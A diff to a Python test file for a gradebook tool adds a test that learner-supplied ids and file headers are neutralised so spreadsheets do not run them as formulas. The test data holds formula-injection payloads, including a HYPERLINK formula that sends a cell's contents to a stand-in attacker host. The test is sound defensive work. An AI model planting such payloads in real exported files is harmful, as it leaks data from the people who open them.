@@ -166,3 +166,19 @@ def test_a_first_row_is_the_header_only_if_it_names_the_codes_column_and_the_com
     assert capsys.readouterr().err.splitlines() == [
         f"{codes}: row 1 is read as the header, since it holds no code: Name, Code",
         "zadachnik gradebook: 1 code(s) read, 0 row(s) left out"]
+
+
+def test_a_codes_ids_and_the_files_header_that_a_spreadsheet_would_run_as_a_formula_stay_text() -> None:
+    """A learner can make a code of any results in the browser console: its course, module and question ids (and
+    variant) were written as they came, and so was a header read from a learner's row in a file without one."""
+    results = {"course": '=HYPERLINK("http://evil.example/?"&A1,"demo")', "module": "+1+1", "time": 1,
+               "questions": [["@SUM(1+1)", -3, "correct", 1, ""], ["-2+3", None, "partial", 0.5, ""]]}
+    rows = table(gradebook(f"Name,Code\nAnn,{hand_in_code(results)}\n").table)
+    assert [(row["course"], row["module"], row["question"], row["variant"]) for row in rows] == [
+        ("'=HYPERLINK(\"http://evil.example/?\"&A1,\"demo\")", "'+1+1", "'@SUM(1+1)", "'-3"),
+        ("'=HYPERLINK(\"http://evil.example/?\"&A1,\"demo\")", "'+1+1", "'-2+3", "")]
+    # The scores are the command's own numbers: they stay numbers.
+    assert [row["score"] for row in rows] == ["1", "0.5"]
+    code = VECTORS["codes"][0]["code"]
+    book = gradebook(f'"=HYPERLINK(""http://evil.example"",""Click"")",I forgot my code\nAnn,{code}\n')
+    assert book.notes and list(table(book.table)[0])[0] == "'=HYPERLINK(\"http://evil.example\",\"Click\")"
